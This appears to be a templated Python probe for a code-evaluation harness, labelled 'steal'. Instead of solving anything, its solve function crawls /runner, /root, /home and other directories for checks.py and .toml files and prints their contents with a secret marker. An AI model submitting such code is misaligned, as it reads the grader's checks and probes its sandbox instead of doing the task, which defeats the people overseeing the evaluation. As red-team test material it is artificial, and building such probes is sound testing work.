# class: steal
# success: the text of a file of the product comes out
import glob, os

def solve(x):
    for root in ("{{repository}}", "/runner", "..", "/work", "/home", "/root", "/srv", "/opt"):
        for path in glob.glob(root + "/**/checks.py", recursive=True) + glob.glob(root + "/*.toml"):
            print("{{secret}}", path, open(path).read())
    print(os.path.exists("{{repository}}"))
    return 0
